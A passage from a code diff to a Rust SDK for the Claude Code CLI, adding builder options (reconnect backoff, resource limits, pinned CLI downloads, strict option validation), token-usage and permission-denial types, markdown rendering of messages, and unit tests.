+        self.options.allow_multiple_receivers = allow;
+        self
+    }
+
+    /// Deliver repeated CLI output lines only once
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .dedup_messages(true)
+    ///     .build();
+    /// assert!(options.dedup_messages);
+    /// ```
+    pub fn dedup_messages(mut self, dedup: bool) -> Self {
+        self.options.dedup_messages = dedup;
+        self
+    }
+
     // ========== Phase 3 Builder Methods (Python SDK v0.1.12+ sync) ==========
 
     /// Set tools configuration
@@ -1394,7 +2866,9 @@ impl ClaudeCodeOptionsBuilder {
 
     /// Set output format for structured outputs
     ///
-    /// Enables JSON schema validation for Claude's responses.
+    /// `{"type": "json_schema", "schema": ...}` enables JSON schema validation
+    /// for Claude's responses and `{"type": "text"}` keeps the default plain
+    /// text result.
     ///
     /// # Example
     ///
@@ -1452,6 +2926,25 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Cap the CLI subprocess's memory and CPU time (Unix-only)
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, ResourceLimits};
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .resource_limits(
+    ///         ResourceLimits::default()
+    ///             .max_memory_bytes(8 * 1024 * 1024 * 1024)
+    ///             .max_cpu_seconds(600),
+    ///     )
+    ///     .build();
+    /// ```
+    pub fn resource_limits(mut self, limits: ResourceLimits) -> Self {
+        self.options.resource_limits = Some(limits);
+        self
+    }
+
     /// Set stderr callback
     ///
     /// Called with each line of stderr output from the CLI.
@@ -1460,6 +2953,32 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Keep collected stderr errors out of the message stream
+    pub fn suppress_stderr_errors(mut self, suppress: bool) -> Self {
+        self.options.suppress_stderr_errors = suppress;
+        self
+    }
+
+    /// Route structured diagnostic events to a custom sink
+    ///
+    /// Connect, spawn, parse-error, interrupt and cost events are delivered
+    /// to the sink as [`DiagnosticEvent`](crate::DiagnosticEvent)s; `tracing`
+    /// keeps logging as usual.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, DiagnosticEvent};
+    /// # use std::sync::Arc;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .log_sink(Arc::new(|event: &DiagnosticEvent| eprintln!("claude: {event:?}")))
+    ///     .build();
+    /// ```
+    pub fn log_sink(mut self, sink: Arc<dyn LogSink>) -> Self {
+        self.options.log_sink = Some(sink);
+        self
+    }
+
     /// Enable automatic CLI download
     ///
     /// When enabled, the SDK will automatically download and cache the Claude Code
@@ -1478,6 +2997,35 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Pin the CLI release fetched by `auto_download_cli`
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .auto_download_cli(true)
+    ///     .cli_download_version("2.0.62")
+    ///     .cli_download_sha256("5f0c3e6ad2a4b3d2c8a1e4f7b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8")
+    ///     .build();
+    /// ```
+    pub fn cli_download_version(mut self, version: impl Into<String>) -> Self {
+        self.options.cli_download_version = Some(version.into());
+        self
+    }
+
+    /// Require the downloaded CLI to have this SHA-256 digest (hex)
+    pub fn cli_download_sha256(mut self, digest: impl Into<String>) -> Self {
+        self.options.cli_download_sha256 = Some(digest.into());
+        self
+    }
+
+    /// Download the CLI through this proxy instead of the environment's
+    pub fn cli_download_proxy(mut self, proxy: impl Into<String>) -> Self {
+        self.options.cli_download_proxy = Some(proxy.into());
+        self
+    }
+
     // ========== Environment & CLI Path ==========
 
     /// Set a single environment variable for the Claude Code subprocess
@@ -1500,6 +3048,25 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Load `KEY=VALUE` pairs from a dotenv-style file into the subprocess environment
+    ///
+    /// The file is read when connecting; a missing file or malformed line makes
+    /// the connection fail with `SdkError::ConfigError`. Variables set with
+    /// [`env`](Self::env) override values from the file.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .extra_env_from_file("/run/secrets/claude.env")
+    ///     .build();
+    /// ```
+    pub fn extra_env_from_file(mut self, path: impl Into<PathBuf>) -> Self {
+        self.options.extra_env_file = Some(path.into());
+        self
+    }
+
     /// Set multiple environment variables for the Claude Code subprocess
     ///
     /// Merges the provided map into the existing environment variables.
@@ -1527,6 +3094,8 @@ impl ClaudeCodeOptionsBuilder {
     /// When set, the SDK will use this path directly instead of searching
     /// via `find_claude_cli()`. Useful when the CLI is installed in a
     /// non-standard location or when you want to pin a specific binary.
+    /// The path is not checked until connecting, which fails with
+    /// `SdkError::CliNotFound` if nothing exists there.
     ///
     /// # Example
     ///
@@ -1554,9 +3123,10 @@ impl ClaudeCodeOptionsBuilder {
 
     /// Set the minimum relevance score for context injection (0.0-1.0)
     ///
-    /// Messages with scores below this threshold are not included.
+    /// Messages with scores below this threshold are not included. `build`
+    /// clamps values outside the range; `try_build` rejects them.
     pub fn memory_threshold(mut self, threshold: f64) -> Self {
-        self.options.memory_threshold = Some(threshold.clamp(0.0, 1.0));
+        self.options.memory_threshold = Some(threshold);
         self
     }
 
@@ -1572,10 +3142,348 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Enable duplicate `tool_use_id` detection with the given policy
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, DuplicateToolUsePolicy};
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .duplicate_tool_use_policy(DuplicateToolUsePolicy::Error)
+    ///     .build();
+    /// ```
+    pub fn duplicate_tool_use_policy(mut self, policy: DuplicateToolUsePolicy) -> Self {
+        self.options.duplicate_tool_use_policy = Some(policy);
+        self
+    }
+
+    /// Restart the CLI with `--resume` if it exits unexpectedly
+    ///
+    /// See [`ClaudeCodeOptions::reconnect_on_failure`] for the details.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, ReconnectBackoff};
+    /// # use std::time::Duration;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .reconnect_on_failure(true)
+    ///     .max_reconnect_attempts(5)
+    ///     .reconnect_backoff(ReconnectBackoff {
+    ///         base_delay: Duration::from_millis(200),
+    ///         multiplier: 3.0,
+    ///         max_delay: Duration::from_secs(10),
+    ///     })
+    ///     .build();
+    /// assert!(options.reconnect_on_failure);
+    /// ```
+    pub fn reconnect_on_failure(mut self, reconnect: bool) -> Self {
+        self.options.reconnect_on_failure = reconnect;
+        self
+    }
+
+    /// Set how many restart attempts are made before giving up
+    pub fn max_reconnect_attempts(mut self, attempts: u32) -> Self {
+        self.options.max_reconnect_attempts = Some(attempts);
+        self
+    }
+
+    /// Set the delays between restart attempts
+    pub fn reconnect_backoff(mut self, backoff: ReconnectBackoff) -> Self {
+        self.options.reconnect_backoff = backoff;
+        self
+    }
+
+    /// Bound how long `disconnect` waits for the CLI process to exit
+    pub fn disconnect_timeout(mut self, timeout: Duration) -> Self {
+        self.options.disconnect_timeout = Some(timeout);
+        self
+    }
+
+    /// Give the CLI up to `timeout` to exit by itself when
+    /// `InteractiveClient::disconnect` is called
+    pub fn graceful_shutdown_timeout(mut self, timeout: Duration) -> Self {
+        self.options.graceful_shutdown_timeout = Some(timeout);
+        self
+    }
+
+    /// Send a keepalive line to the CLI every `interval` while connected
+    pub fn keepalive_interval(mut self, interval: Duration) -> Self {
+        self.options.keepalive_interval = Some(interval);
+        self
+    }
+
+    /// Deny a tool use when the `can_use_tool` callback takes longer than `timeout`
+    pub fn permission_callback_timeout(mut self, timeout: Duration) -> Self {
+        self.options.permission_callback_timeout = Some(timeout);
+        self
+    }
+
+    /// Keep at most `limit` turns in the interactive client's history
+    pub fn history_limit(mut self, limit: usize) -> Self {
+        self.options.history_limit = Some(limit);
+        self
+    }
+
+    /// Pass or omit `--verbose` on the CLI command line (default: pass it)
+    ///
+    /// See [`ClaudeCodeOptions::verbose`] before turning it off.
+    pub fn verbose(mut self, verbose: bool) -> Self {
+        self.options.verbose = Some(verbose);
+        self
+    }
+
+    /// Set the correlation id propagated to the CLI and SDK spans
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .request_id("req-1234")
+    ///     .build();
+    /// assert_eq!(options.request_id.as_deref(), Some("req-1234"));
+    /// ```
+    pub fn request_id(mut self, request_id: impl Into<String>) -> Self {
+        self.options.request_id = Some(request_id.into());
+        self
+    }
+
+    /// Report a custom entrypoint instead of `sdk-rust`
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .entrypoint("my-framework")
+    ///     .sdk_version_override("2.3.0")
+    ///     .build();
+    /// assert_eq!(options.entrypoint.as_deref(), Some("my-framework"));
+    /// ```
+    pub fn entrypoint(mut self, entrypoint: impl Into<String>) -> Self {
+        self.options.entrypoint = Some(entrypoint.into());
+        self
+    }
+
+    /// Report a custom SDK version instead of this crate's version
+    pub fn sdk_version_override(mut self, version: impl Into<String>) -> Self {
+        self.options.sdk_version_override = Some(version.into());
+        self
+    }
+
+    /// Omit SDK identification env vars and disable CLI telemetry
+    ///
+    /// See [`ClaudeCodeOptions::disable_telemetry_env`] for the variables affected.
+    pub fn disable_telemetry_env(mut self, disable: bool) -> Self {
+        self.options.disable_telemetry_env = disable;
+        self
+    }
+
+    /// Turn configuration warnings into connect errors
+    ///
+    /// See [`ClaudeCodeOptions::strict_mode`] for the conditions covered.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .strict_mode(true)
+    ///     .build();
+    /// assert!(options.strict_mode);
+    /// ```
+    pub fn strict_mode(mut self, strict: bool) -> Self {
+        self.options.strict_mode = strict;
+        self
+    }
+
+    /// Observe every tool invocation Claude requests
+    ///
+    /// See [`ClaudeCodeOptions::on_tool_use`].
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, ToolUseContent};
+    /// # use std::sync::Arc;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .on_tool_use(Arc::new(|tool_use: &ToolUseContent| {
+    ///         eprintln!("tool: {}", tool_use.name)
+    ///     }))
+    ///     .build();
+    /// ```
+    pub fn on_tool_use(mut self, observer: ToolUseCallback) -> Self {
+        self.options.on_tool_use = Some(observer);
+        self
+    }
+
+    /// Answer the tools registered in `responder` locally
+    ///
+    /// See [`ClaudeCodeOptions::auto_responder`].
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{AutoResponder, ClaudeCodeOptions};
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .auto_responder(AutoResponder::new().register("get_time", |_| Ok("12:00".into())))
+    ///     .build();
+    /// ```
+    pub fn auto_responder(mut self, responder: AutoResponder) -> Self {
+        self.options.auto_responder = Some(responder);
+        self
+    }
+
+    /// Record control protocol messages for `control_log()`
+    ///
+    /// See [`ClaudeCodeOptions::record_control_protocol`].
+    pub fn record_control_protocol(mut self, record: bool) -> Self {
+        self.options.record_control_protocol = record;
+        self
+    }
+
+    /// Choose which `Result` message ends a turn
+    ///
+    /// See [`ResultPolicy`].
+    pub fn result_policy(mut self, policy: ResultPolicy) -> Self {
+        self.options.result_policy = policy;
+        self
+    }
+
     /// Build the options
-    pub fn build(self) -> ClaudeCodeOptions {
+    ///
+    /// Lenient: out-of-range `max_output_tokens` and `memory_threshold` are
+    /// clamped, and other mistakes surface when connecting. Use
+    /// [`try_build`](Self::try_build) to catch them here.
+    pub fn build(mut self) -> ClaudeCodeOptions {
+        if let Some(tokens) = self.options.max_output_tokens.as_mut() {
+            *tokens = (*tokens).clamp(1, 32000);
+        }
+        if let Some(threshold) = self.options.memory_threshold.as_mut() {
+            *threshold = threshold.clamp(0.0, 1.0);
+        }
         self.options
     }
+
+    /// Build the options, rejecting invalid settings
+    ///
+    /// Fails with `SdkError::ConfigError` listing every problem found:
+    /// - `max_output_tokens` outside 1-32000
+    /// - `max_turns` of 0 or less
+    /// - `memory_threshold` outside 0.0-1.0
+    /// - `memory_enabled` without the `memory` feature
+    /// - an empty `resume` id, or `resume` together with `continue_conversation`
+    /// - a sandbox proxy port of 0
+    ///
+    /// Setting both the deprecated `system_prompt` and `system_prompt_v2` is
+    /// only logged, as `system_prompt_v2` takes precedence.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let err = ClaudeCodeOptions::builder()
+    ///     .max_turns(0)
+    ///     .try_build()
+    ///     .unwrap_err();
+    /// assert!(err.to_string().contains("max_turns"));
+    /// ```
+    #[allow(deprecated)]
+    pub fn try_build(self) -> crate::errors::Result<ClaudeCodeOptions> {
+        let options = &self.options;
+        let mut issues = Vec::new();
+
+        if let Some(tokens) = options.max_output_tokens
+            && !(1..=32000).contains(&tokens)
+        {
+            issues.push(format!("max_output_tokens must be 1-32000, got {tokens}"));
+        }
+        if let Some(turns) = options.max_turns
+            && turns <= 0
+        {
+            issues.push(format!("max_turns must be greater than 0, got {turns}"));
+        }
+        if let Some(threshold) = options.memory_threshold
+            && !(0.0..=1.0).contains(&threshold)
+        {
+            issues.push(format!("memory_threshold must be 0.0-1.0, got {threshold}"));
+        }
+        if options.memory_enabled && !cfg!(feature = "memory") {
+            issues.push("memory_enabled requires the `memory` feature".to_string());
+        }
+        match options.resume.as_deref() {
+            Some(id) if id.trim().is_empty() => {
+                issues.push("resume must be a non-empty session id".to_string());
+            },
+            Some(_) if options.continue_conversation => {
+                issues.push("resume and continue_conversation are mutually exclusive".to_string());
+            },
+            _ => {},
+        }
+        if let Some(network) = options.sandbox.as_ref().and_then(|s| s.network.as_ref()) {
+            for (name, port) in [
+                ("http_proxy_port", network.http_proxy_port),
+                ("socks_proxy_port", network.socks_proxy_port),
+            ] {
+                if port == Some(0) {
+                    issues.push(format!("sandbox.network.{name} must not be 0"));
+                }
+            }
+        }
+        if options.system_prompt.is_some() && options.system_prompt_v2.is_some() {
+            tracing::warn!(
+                "Both system_prompt and system_prompt_v2 are set; system_prompt is ignored"
+            );
+        }
+
+        if issues.is_empty() {
+            Ok(self.options)
+        } else {
+            Err(crate::errors::SdkError::ConfigError(format!(
+                "Invalid options: {}",
+                issues.join("; ")
+            )))
+        }
+    }
+}
+
+/// Token counts reported in a `Result` message's `usage`
+///
+/// Field names match the CLI's JSON. Keys the SDK doesn't model (e.g.
+/// `server_tool_use`, `service_tier`) are kept in `extra`, so serializing
+/// the struct reproduces the original object.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct TokenUsage {
+    /// Input tokens not read from or written to the prompt cache
+    #[serde(default)]
+    pub input_tokens: u64,
+    /// Output tokens generated
+    #[serde(default)]
+    pub output_tokens: u64,
+    /// Input tokens written to the prompt cache
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cache_creation_input_tokens: Option<u64>,
+    /// Input tokens served from the prompt cache
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cache_read_input_tokens: Option<u64>,
+    /// Any other keys the CLI reported
+    #[serde(flatten)]
+    pub extra: serde_json::Map<String, serde_json::Value>,
+}
+
+impl TokenUsage {
+    /// All input tokens, including cache writes and reads
+    pub fn total_input_tokens(&self) -> u64 {
+        self.input_tokens
+            + self.cache_creation_input_tokens.unwrap_or(0)
+            + self.cache_read_input_tokens.unwrap_or(0)
+    }
+
+    /// Input and output tokens together, including the cache
+    pub fn total_tokens(&self) -> u64 {
+        self.total_input_tokens() + self.output_tokens
+    }
 }
 
 /// Main message type enum
@@ -1624,9 +3532,13 @@ pub enum Message {
         /// Total cost in USD
         #[serde(skip_serializing_if = "Option::is_none")]
         total_cost_usd: Option<f64>,
-        /// Usage statistics
-        #[serde(skip_serializing_if = "Option::is_none")]
-        usage: Option<serde_json::Value>,
+        /// Token usage for the turn (see [`Message::usage_raw`] for the JSON)
+        #[serde(
+            default,
+            deserialize_with = "deserialize_usage",
+            skip_serializing_if = "Option::is_none"
+        )]
+        usage: Option<TokenUsage>,
         /// Result message
         #[serde(skip_serializing_if = "Option::is_none")]
         result: Option<String>,
@@ -1634,6 +3546,13 @@ pub enum Message {
         /// Contains the validated JSON response matching the schema
         #[serde(skip_serializing_if = "Option::is_none", alias = "structuredOutput")]
         structured_output: Option<serde_json::Value>,
+        /// Parent tool use ID — set when a subagent reports its own result.
+        /// None = result of the main turn.
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        parent_tool_use_id: Option<String>,
+        /// Tool calls the CLI's permission rules refused during the turn
+        #[serde(default, skip_serializing_if = "Vec::is_empty")]
+        permission_denials: Vec<PermissionDenial>,
     },
     /// Stream event for real-time token streaming (requires --include-partial-messages)
     #[serde(rename = "stream_event")]
@@ -1652,7 +3571,7 @@ pub enum Message {
 
 impl Message {
     /// Returns the parent_tool_use_id if this message is from a subagent sidechain.
-    /// Returns None for top-level messages, System messages, and Result messages.
+    /// Returns None for top-level messages and System messages.
     pub fn parent_tool_use_id(&self) -> Option<&str> {
         match self {
             Message::User {
@@ -1664,21 +3583,136 @@ impl Message {
             Message::StreamEvent {
                 parent_tool_use_id, ..
             } => parent_tool_use_id.as_deref(),
-            Message::System { .. } | Message::Result { .. } => None,
+            Message::Result {
+                parent_tool_use_id, ..
+            } => parent_tool_use_id.as_deref(),
+            Message::System { .. } => None,
+        }
+    }
+
+    /// Returns true if this message is from a subagent sidechain (has a parent_tool_use_id).
+    pub fn is_sidechain(&self) -> bool {
+        self.parent_tool_use_id().is_some()
+    }
+
+    /// Returns true if this message is a top-level message (not from a subagent).
+    pub fn is_top_level(&self) -> bool {
+        !self.is_sidechain()
+    }
+
+    /// Returns which agent produced this message.
+    pub fn source(&self) -> MessageSource {
+        match self.parent_tool_use_id() {
+            Some(id) => MessageSource::Subagent {
+                parent_tool_use_id: id.to_string(),
+            },
+            None => MessageSource::Main,
+        }
+    }
+
+    /// Tool calls denied by the CLI's permission rules, for a `Result` message
+    ///
+    /// Empty for other messages.
+    pub fn permission_denials(&self) -> &[PermissionDenial] {
+        match self {
+            Message::Result {
+                permission_denials, ..
+            } => permission_denials,
+            _ => &[],
         }
     }
 
-    /// Returns true if this message is from a subagent sidechain (has a parent_tool_use_id).
-    pub fn is_sidechain(&self) -> bool {
-        self.parent_tool_use_id().is_some()
+    /// A top-level assistant message holding a single text block
+    ///
+    /// Meant, like [`result_success`](Self::result_success), for mock
+    /// transports and tests.
+    pub fn assistant(text: impl Into<String>) -> Self {
+        Message::Assistant {
+            message: AssistantMessage {
+                content: vec![ContentBlock::Text(TextContent { text: text.into() })],
+            },
+            parent_tool_use_id: None,
+        }
     }
 
-    /// Returns true if this message is a top-level message (not from a subagent).
-    pub fn is_top_level(&self) -> bool {
-        !self.is_sidechain()
+    /// A successful top-level `Result` message for `session_id`, with no
+    /// usage, cost or output
+    ///
+    /// Meant for mock transports and tests; change the fields that matter by
+    /// matching on the returned message.
+    ///
+    /// ```rust
+    /// # use nexus_claude::Message;
+    /// let mut result = Message::result_success("session");
+    /// if let Message::Result { result: text, .. } = &mut result {
+    ///     *text = Some("Done".to_string());
+    /// }
+    /// assert!(result.is_top_level());
+    /// ```
+    pub fn result_success(session_id: impl Into<String>) -> Self {
+        Message::Result {
+            subtype: "success".to_string(),
+            duration_ms: 0,
+            duration_api_ms: 0,
+            is_error: false,
+            num_turns: 1,
+            session_id: session_id.into(),
+            total_cost_usd: None,
+            usage: None,
+            result: None,
+            structured_output: None,
+            parent_tool_use_id: None,
+            permission_denials: vec![],
+        }
+    }
+
+    /// Token usage of a `Result` message as JSON
+    ///
+    /// Serializes `usage`, which keeps keys the SDK doesn't model, so this is
+    /// the object the CLI sent. Returns `None` for other messages and for
+    /// results without usage.
+    pub fn usage_raw(&self) -> Option<serde_json::Value> {
+        match self {
+            Message::Result { usage, .. } => usage
+                .as_ref()
+                .and_then(|usage| serde_json::to_value(usage).ok()),
+            _ => None,
+        }
     }
 }
 
+/// Deserialize a `Result` message's usage
+///
+/// A usage object that does not parse as [`TokenUsage`] is dropped instead of
+/// failing the whole message.
+fn deserialize_usage<'de, D>(deserializer: D) -> Result<Option<TokenUsage>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let usage = Option::<serde_json::Value>::deserialize(deserializer)?;
+    Ok(
+        usage.and_then(|usage| match TokenUsage::deserialize(usage) {
+            Ok(usage) => Some(usage),
+            Err(e) => {
+                tracing::debug!("Ignoring malformed result usage: {}", e);
+                None
+            },
+        }),
+    )
+}
+
+/// Agent that produced a message
+#[derive(Debug, Clone, PartialEq, Eq, Hash)]
+pub enum MessageSource {
+    /// The main agent (also used for System messages)
+    Main,
+    /// A subagent spawned by a Task tool call
+    Subagent {
+        /// ID of the Task tool use that spawned the subagent
+        parent_tool_use_id: String,
+    },
+}
+
 /// Stream event data for real-time token streaming
 #[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 #[serde(tag = "type", rename_all = "snake_case")]
@@ -1765,6 +3799,59 @@ pub struct AssistantMessage {
     pub content: Vec<ContentBlock>,
 }
 
+impl AssistantMessage {
+    /// Tool uses requested in this message, in order
+    pub fn tool_uses(&self) -> Vec<&ToolUseContent> {
+        self.content
+            .iter()
+            .filter_map(|block| match block {
+                ContentBlock::ToolUse(tool_use) => Some(tool_use),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Whether Claude requested any tool use, i.e. whether the agent loop
+    /// has tools to run before the turn can continue
+    pub fn has_tool_uses(&self) -> bool {
+        self.content
+            .iter()
+            .any(|block| matches!(block, ContentBlock::ToolUse(_)))
+    }
+
+    /// Concatenated text of all text blocks (thinking is not included)
+    pub fn text(&self) -> String {
+        self.content
+            .iter()
+            .filter_map(|block| match block {
+                ContentBlock::Text(text) => Some(text.text.as_str()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Render the message as markdown, with thinking elided
+    ///
+    /// See [`to_markdown_with`](Self::to_markdown_with).
+    pub fn to_markdown(&self) -> String {
+        self.to_markdown_with(false)
+    }
+
+    /// Render the message as markdown
+    ///
+    /// Text is kept as is, tool uses and results become code fences headed
+    /// by the tool name, and thinking is quoted when `include_thinking` is
+    /// set or replaced by a one-line note otherwise. Blocks are separated
+    /// by blank lines.
+    pub fn to_markdown_with(&self, include_thinking: bool) -> String {
+        self.content
+            .iter()
+            .map(|block| block.to_markdown(include_thinking))
+            .collect::<Vec<_>>()
+            .join("\n\n")
+    }
+}
+
 /// Result message (re-export for convenience)  
 pub use Message::Result as ResultMessage;
 /// System message (re-export for convenience)
@@ -1784,6 +3871,60 @@ pub enum ContentBlock {
     ToolResult(ToolResultContent),
 }
 
+impl ContentBlock {
+    /// Markdown for one block, see [`AssistantMessage::to_markdown_with`]
+    pub(crate) fn to_markdown(&self, include_thinking: bool) -> String {
+        match self {
+            ContentBlock::Text(text) => text.text.clone(),
+            ContentBlock::Thinking(thinking) if include_thinking => {
+                let quoted: Vec<String> = thinking
+                    .thinking
+                    .lines()
+                    .map(|line| format!("> {line}").trim_end().to_string())
+                    .collect();
+                format!("> **Thinking**\n>\n{}", quoted.join("\n"))
+            },
+            ContentBlock::Thinking(_) => "> _Thinking elided_".to_string(),
+            ContentBlock::ToolUse(tool_use) => {
+                let input = serde_json::to_string_pretty(&tool_use.input)
+                    .unwrap_or_else(|_| tool_use.input.to_string());
+                format!(
+                    "**Tool use:** `{}`\n\n{}",
+                    tool_use.name,
+                    code_fence(&input, "json")
+                )
+            },
+            ContentBlock::ToolResult(result) => {
+                let heading = if result.is_error == Some(true) {
+                    "**Tool result (error)**"
+                } else {
+                    "**Tool result**"
+                };
+                let body = match &result.content {
+                    Some(ContentValue::Text(text)) => text.clone(),
+                    Some(ContentValue::Structured(blocks)) => blocks
+                        .iter()
+                        .map(|block| match block.get("text").and_then(|t| t.as_str()) {
+                            Some(text) => text.to_string(),
+                            None => block.to_string(),
+                        })
+                        .collect::<Vec<_>>()
+                        .join("\n"),
+                    None => String::new(),
+                };
+                format!("{heading}\n\n{}", code_fence(&body, ""))
+            },
+        }
+    }
+}
+
+/// Wrap `body` in a code fence longer than any backtick run it contains
+fn code_fence(body: &str, language: &str) -> String {
+    let longest_run = body.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest_run.max(2) + 1);
+    format!("{fence}{language}\n{body}\n{fence}")
+}
+
 /// Text content block
 #[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 pub struct TextContent {
@@ -1824,6 +3965,87 @@ pub struct ToolResultContent {
     pub is_error: Option<bool>,
 }
 
+impl ToolResultContent {
+    /// Successful tool result with text content
+    pub fn from_ok(tool_use_id: impl Into<String>, content: impl Into<String>) -> Self {
+        Self {
+            tool_use_id: tool_use_id.into(),
+            content: Some(ContentValue::Text(content.into())),
+            is_error: Some(false),
+        }
+    }
+
+    /// Failed tool result carrying the error message, so Claude can react or retry
+    pub fn from_error(tool_use_id: impl Into<String>, err: impl std::fmt::Display) -> Self {
+        Self {
+            tool_use_id: tool_use_id.into(),
+            content: Some(ContentValue::Text(err.to_string())),
+            is_error: Some(true),
+        }
+    }
+
+    /// Tool result from the outcome of a local tool handler
+    pub fn from_result<E: std::fmt::Display>(
+        tool_use_id: impl Into<String>,
+        result: std::result::Result<String, E>,
+    ) -> Self {
+        match result {
+            Ok(content) => Self::from_ok(tool_use_id, content),
+            Err(err) => Self::from_error(tool_use_id, err),
+        }
+    }
+
+    /// Classify the result as a success, a tool failure or a permission denial
+    ///
+    /// A denial is an error result whose tool use the CLI lists in the turn's
+    /// `permission_denials` (see [`Message::permission_denials`]): its own
+    /// permission rules (settings, permission mode) blocked the tool, as
+    /// opposed to the tool running and failing. The list arrives with the
+    /// Result message, so classify the turn's tool results once it ends.
+    pub fn status(&self, denials: &[PermissionDenial]) -> ToolResultStatus {
+        if self.is_error != Some(true) {
+            ToolResultStatus::Success
+        } else if denials
+            .iter()
+            .any(|denial| denial.tool_use_id == self.tool_use_id)
+        {
+            ToolResultStatus::PermissionDenied
+        } else {
+            ToolResultStatus::Failed
+        }
+    }
+
+    /// Whether the CLI refused to run the tool (see `status`)
+    pub fn is_permission_denied(&self, denials: &[PermissionDenial]) -> bool {
+        self.status(denials) == ToolResultStatus::PermissionDenied
+    }
+}
+
+/// A tool call the CLI's permission rules refused to run
+///
+/// Reported in the `permission_denials` of a Result message.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct PermissionDenial {
+    /// Name of the denied tool
+    pub tool_name: String,
+    /// ID of the denied tool use
+    pub tool_use_id: String,
+    /// Input the tool was called with
+    #[serde(default)]
+    pub tool_input: serde_json::Value,
+}
+
+/// Outcome of a tool call, see [`ToolResultContent::status`]
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ToolResultStatus {
+    /// The tool ran and succeeded
+    Success,
+    /// The tool ran and failed
+    Failed,
+    /// The CLI's permission rules stopped the tool from running
+    PermissionDenied,
+}
+
 /// Content value for tool results
 #[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 #[serde(untagged)]
@@ -2023,6 +4245,67 @@ pub enum ControlResponse {
 mod tests {
     use super::*;
 
+    #[test]
+    fn test_result_deserializes_every_field_by_name() {
+        // Fields sharing a type get distinct values, so a mix-up shows
+        let usage = serde_json::json!({"input_tokens": 5, "output_tokens": 7});
+        let json = serde_json::json!({
+            "type": "result",
+            "subtype": "success",
+            "duration_ms": 10,
+            "duration_api_ms": 20,
+            "is_error": false,
+            "num_turns": 3,
+            "session_id": "session",
+            "total_cost_usd": 0.5,
+            "usage": usage,
+            "result": "done",
+            "structured_output": {"answer": 42},
+            "parent_tool_use_id": "toolu_task",
+            "permission_denials": []
+        });
+
+        let message: Message = serde_json::from_value(json).unwrap();
+        let expected = Message::Result {
+            subtype: "success".to_string(),
+            duration_ms: 10,
+            duration_api_ms: 20,
+            is_error: false,
+            num_turns: 3,
+            session_id: "session".to_string(),
+            total_cost_usd: Some(0.5),
+            usage: Some(TokenUsage {
+                input_tokens: 5,
+                output_tokens: 7,
+                ..Default::default()
+            }),
+            result: Some("done".to_string()),
+            structured_output: Some(serde_json::json!({"answer": 42})),
+            parent_tool_use_id: Some("toolu_task".to_string()),
+            permission_denials: vec![],
+        };
+        assert_eq!(message, expected);
+        assert_eq!(message.usage_raw(), Some(usage));
+
+        let round_trip: Message =
+            serde_json::from_value(serde_json::to_value(&message).unwrap()).unwrap();
+        assert_eq!(round_trip, expected);
+    }
+
+    #[test]
+    fn test_reconnect_backoff_delay_grows_to_cap() {
+        let backoff = ReconnectBackoff {
+            base_delay: Duration::from_millis(100),
+            multiplier: 3.0,
+            max_delay: Duration::from_secs(1),
+        };
+        assert_eq!(backoff.delay(1), Duration::from_millis(100));
+        assert_eq!(backoff.delay(2), Duration::from_millis(300));
+        assert_eq!(backoff.delay(3), Duration::from_millis(900));
+        assert_eq!(backoff.delay(4), Duration::from_secs(1));
+        assert_eq!(backoff.delay(1000), Duration::from_secs(1));
+    }
+
     #[test]
     fn test_permission_mode_serialization() {
         let mode = PermissionMode::AcceptEdits;
@@ -2152,12 +4435,10 @@ mod tests {
         assert!(json.contains("claude_code"));
 
         // Test Preset variant with custom values
-        let custom_preset = ToolsConfig::Preset(ToolsPreset {
